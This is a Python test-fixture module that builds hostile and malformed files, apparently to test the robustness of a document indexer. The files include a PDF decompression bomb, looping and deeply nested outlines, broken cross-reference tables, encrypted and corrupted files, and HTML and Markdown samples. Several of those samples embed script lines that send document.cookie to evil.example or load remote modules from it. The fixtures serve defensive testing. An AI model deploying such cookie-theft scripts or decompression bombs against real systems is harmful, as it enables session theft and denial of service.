"""Hostile and odd input files for the reliability tests, generated into tmp dirs.

Most PDFs here are written object by object (:func:`raw_pdf`) so that each one is exactly the kind of
damage it claims to be: a decompression bomb, a cyclic outline, a page tree of thousands of pages, a
JavaScript action, a broken cross-reference table, text in a simple font whose ``/ToUnicode`` map turns
one-byte codes into CJK or Arabic characters. Nothing is downloaded; nothing is a mock of a parser.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Sequence
from pathlib import Path

from fixtures.pdfs import LOREM, make_image_only_pdf, make_pdf, rewrite
from pypdf import PdfReader, PdfWriter

CJK_PDF_TEXT = "国际全球尺度地球化学中心 位于 廊坊 铟 元素 分布 图"
ARABIC_PDF_TEXT = "المركز الدولي للكيمياء الجيولوجية على النطاق العالمي"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def raw_pdf(
    objects: Sequence[bytes], *, root: int = 1, xref: bool = True, trailer_extra: bytes = b""
) -> bytes:
    """A PDF file from numbered object bodies (object ``i + 1`` is ``objects[i]``) with a correct
    cross-reference table, or with none at all when ``xref`` is false."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        for offset in offsets:
            out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (len(objects) + 1, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % (start if xref else 0)
    return bytes(out)


def text_pdf_objects(lines: Sequence[str], *, catalog_extra: bytes = b"", font: bytes = FONT) -> list[bytes]:
    """Catalog (1), page tree (2), one page (3), its content (4) and font (5) printing ``lines``."""
    ops = [b"BT /F1 11 Tf 50 780 Td 14 TL"]
    for line in lines:
        escaped = line.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        ops.append(b"(" + escaped + b") Tj T*")
    ops.append(b"ET")
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R >>",
        _stream(b"\n".join(ops)),
        font,
    ]


def unicode_text_pdf(text: str) -> bytes:
    """One page whose text is ``text`` (any script) for a text extractor: each distinct character gets
    a one-byte code of a simple font and a ``/ToUnicode`` CMap entry (glyphs are wrong, text is right)."""
    chars = sorted(set(text) - {" "})
    if len(chars) > 200:
        raise ValueError("at most 200 distinct characters")
    codes = {c: 33 + i for i, c in enumerate(chars)}
    codes[" "] = 32
    encoded = bytes(codes[c] for c in text)
    bfchar = b"".join(
        b"<%02X> <%s>\n" % (code, c.encode("utf-16-be").hex().upper().encode()) for c, code in codes.items()
    )
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
        b"/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
        b"1 begincodespacerange <00> <FF> endcodespacerange\n"
        b"%d beginbfchar\n" % len(codes) + bfchar + b"endbfchar\nendcmap\n"
        b"CMapName currentdict /CMap defineresource pop end end"
    )
    escaped = encoded.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    content = b"BT /F1 12 Tf 50 780 Td (" + escaped + b") Tj ET"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    objects = text_pdf_objects([], font=font)
    objects[3] = _stream(content)
    objects.append(_stream(cmap))
    return raw_pdf(objects)


def deflate_bomb_pdf(inflated_mb: int) -> bytes:
    """A one-page PDF whose FlateDecode content stream inflates to ``inflated_mb`` MiB of zeros
    (about 1000:1; the file itself is a few hundred KiB)."""
    compressor = zlib.compressobj(9)
    block = b"0" * (1 << 20)
    parts = [compressor.compress(block) for _ in range(inflated_mb)]
    parts.append(compressor.flush())
    data = b"".join(parts)
    objects = text_pdf_objects(["Decompression bomb"])
    objects[3] = _stream(data, b"/Filter /FlateDecode")
    return raw_pdf(objects)


def cyclic_outline_pdf() -> bytes:
    """Readable text plus an outline whose items point at each other in a loop (Next and Parent)."""
    objects = text_pdf_objects(["Outline loop report", LOREM[:90]], catalog_extra=b"/Outlines 6 0 R")
    objects += [
        b"<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>",
        b"<< /Title (One) /Parent 6 0 R /Next 8 0 R /Prev 8 0 R /First 7 0 R /Dest [3 0 R /Fit] >>",
        b"<< /Title (Two) /Parent 8 0 R /Next 7 0 R /Prev 7 0 R /First 6 0 R /Dest [3 0 R /Fit] >>",
    ]
    return raw_pdf(objects)


def deep_outline_pdf(depth: int = 5000) -> bytes:
    """An outline nested ``depth`` levels deep (each item the only child of the one before)."""
    objects = text_pdf_objects(["Deep outline report", LOREM[:90]], catalog_extra=b"/Outlines 6 0 R")
    first = 7
    objects.append(b"<< /Type /Outlines /First %d 0 R /Last %d 0 R /Count %d >>" % (first, first, depth))
    for level in range(depth):
        number = first + level
        parent = 6 if level == 0 else number - 1
        child = (
            b"/First %d 0 R /Last %d 0 R /Count 1 " % (number + 1, number + 1) if level < depth - 1 else b""
        )
        objects.append(
            b"<< /Title (Level %d) /Parent %d 0 R %s/Dest [3 0 R /Fit] >>" % (level, parent, child)
        )
    return raw_pdf(objects)


def many_pages_pdf(pages: int) -> bytes:
    """A page tree of ``pages`` page objects sharing one content stream (small file, huge page count)."""
    kids = b" ".join(b"%d 0 R" % (6 + i) for i in range(pages))
    objects = text_pdf_objects(["Many pages"])
    objects[1] = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages
    objects[2] = b"<< /Type /Null >>"
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R >>"
    )
    objects += [page] * pages
    return raw_pdf(objects)


def javascript_pdf() -> bytes:
    """Readable text plus a document-open JavaScript action and a page link that launches a URI."""
    js = (
        b"/OpenAction << /S /JavaScript "
        b"/JS (app.alert\\('pwned-by-javascript'\\); this.exportDataObject\\(\\);) >>"
    )
    objects = text_pdf_objects(
        ["Scripted report on baselines", "Cobalt was sampled in the scripted province."], catalog_extra=js
    )
    return raw_pdf(objects)


def broken_xref_pdf() -> bytes:
    """Readable objects, but every cross-reference offset points at the wrong place and startxref lies."""
    good = raw_pdf(text_pdf_objects(["Broken xref report", "Vanadium was mapped despite the xref."]))
    head, _, tail = good.partition(b"xref\n")
    tail = re.sub(rb"(?m)^\d{10} 00000 n", b"0000000007 00000 n", tail)
    tail = re.sub(rb"startxref\n\d+", b"startxref\n%d" % (len(good) + 4000), tail)
    return head + b"xref\n" + tail


def write_hostile_batch(folder: Path) -> dict[str, Path]:
    """Every hostile or odd file of the batch, by short name (see the test for what each must do)."""
    folder.mkdir(parents=True, exist_ok=True)
    files: dict[str, Path] = {}

    def put(name: str, filename: str, data: bytes | str) -> None:
        path = folder / filename
        if isinstance(data, str):
            path.write_text(data, encoding="utf-8")
        else:
            path.write_bytes(data)
        files[name] = path

    # Good neighbours: these must be indexed and found whatever else is in the batch.
    good = make_pdf(
        folder / "good-report.pdf",
        [["# Baselines", "Tellurium anomalies were found near Langfang in the good report."], [LOREM]],
        title="Good Report",
    )
    files["good_pdf"] = good
    put(
        "good_news",
        "2022-03-04-good-news.md",
        '---\ntitle: "Good news item"\ndate: 2022-03-04\ncategory: science\n---\n'
        "Scandium was measured in floodplain sediment by the good news item.\n",
    )

    # Encryption.
    files["password_pdf"] = rewrite(good, folder / "password.pdf", user_password="secret")
    files["empty_password_pdf"] = rewrite(good, folder / "empty-password.pdf", user_password="")
    put("aes256_empty_password_pdf", "aes256-empty-password.pdf", encrypt_bytes(good.read_bytes(), ""))

    # Damage.
    data = good.read_bytes()
    put("truncated_pdf", "truncated.pdf", data[: len(data) // 3])
    put("garbage_pdf", "garbage.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 64)
    put("random_named_pdf", "random.pdf", bytes((i * 7919 + 13) % 256 for i in range(20000)))
    put("zero_pdf", "zero.pdf", b"")
    put("zero_md", "zero.md", b"")
    put("broken_xref_pdf", "broken-xref.pdf", broken_xref_pdf())
    put(
        "no_xref_pdf",
        "no-xref.pdf",
        raw_pdf(text_pdf_objects(["No xref report", "Lithium without xref."]), xref=False),
    )

    # Resource exhaustion.
    put("bomb_pdf", "bomb.pdf", deflate_bomb_pdf(300))
    put("many_pages_pdf", "many-pages.pdf", many_pages_pdf(1000))
    put("cyclic_outline_pdf", "cyclic-outline.pdf", cyclic_outline_pdf())
    put("deep_outline_pdf", "deep-outline.pdf", deep_outline_pdf())

    # Content without usable text, and scripts.
    files["image_only_pdf"] = make_image_only_pdf(folder / "scan.pdf")
    put("javascript_pdf", "javascript.pdf", javascript_pdf())
    put("cjk_pdf", "cjk.pdf", unicode_text_pdf(CJK_PDF_TEXT))
    # PDF producers draw right-to-left scripts in visual order; extractors turn it back to logical order.
    put("arabic_pdf", "arabic.pdf", unicode_text_pdf(ARABIC_PDF_TEXT[::-1]))

    # Text formats.
    put(
        "cjk_md",
        "2023-05-06-cjk.md",
        '---\ntitle: "联合国教科文组织全球尺度地球化学国际研究中心"\ndate: 2023-05-06\n---\n'
        "中心在廊坊举办了地球化学填图培训班。来自十个国家的学员参加了培训。\n",
    )
    put(
        "arabic_html",
        "arabic.html",
        '<!doctype html><html lang="ar" dir="rtl"><head><title>ورشة عمل</title></head><body>'
        "<p>عقدت ورشة عمل حول رسم الخرائط الجيوكيميائية في لانغفانغ.</p></body></html>",
    )
    put(
        "broken_yaml_md", "broken-yaml.md", "---\ntitle: [unclosed\ndate: : :\n---\nBody after broken YAML.\n"
    )
    put(
        "wrong_types_md",
        "wrong-types.md",
        "---\ntitle: [a, list, title]\ndate: not a date\ncategory: {nested: map}\nfacts: 12\n---\n"
        "Gallium was reported in a news item with odd front matter.\n",
    )
    put(
        "front_matter_only_md",
        "front-matter-only.md",
        '---\ntitle: "Only front matter"\ndate: 2020-01-01\n---\n',
    )
    put(
        "script_html",
        "script.html",
        "<!doctype html><html><head><title>Scripted page</title><style>body{color:red} .steal{}</style>"
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script></head>"
        "<body onload=\"alert('onload-handler')\"><h1>Scripted page</h1>"
        "<p onclick=\"alert('click-handler')\">Germanium occurs in the scripted page body.</p>"
        "<script type=\"module\">import('https://evil.example/module.js')</script>"
        "<noscript>noscript-fallback</noscript></body></html>",
    )
    put(
        "script_md",
        "2022-07-08-script.md",
        '---\ntitle: "Scripted news"\ndate: 2022-07-08\n---\nBismuth was mapped in the scripted news.\n\n'
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>\n\n"
        '<style>.steal{color:red}</style><img src="x" onerror="alert(1)"> '
        '<iframe src="https://evil.example/frame">frame-fallback</iframe>\n',
    )
    put("png_as_md", "picture.md", b"\x89PNG\r\n\x1a\n" + bytes(200))
    put("elf_as_md", "program.md", b"\x7fELF\x02\x01\x01" + bytes(300))
    put(
        "utf16_txt",
        "utf16.txt",
        "Rubidium notes in UTF-16\n\nRubidium was measured in UTF-16 encoded notes.\n".encode("utf-16"),
    )
    put("nul_bytes_md", "nul.md", b"# Title\n\nText with a NUL \x00 byte in the middle.\n")
    put("latin1_txt", "latin1.txt", "Caf\xe9 notes about g\xe9ochimie.\n".encode("latin-1"))
    put("long_line_txt", "long-line.txt", "Hafnium " + "zirconium " * 20_000 + "end of the enormous line.")

    # A folder that contains itself, and a link that points at itself.
    (folder / "loop").symlink_to(folder, target_is_directory=True)
    (folder / "self-link.md").symlink_to(folder / "self-link.md")
    return files


def encrypt_bytes(data: bytes, user_password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()
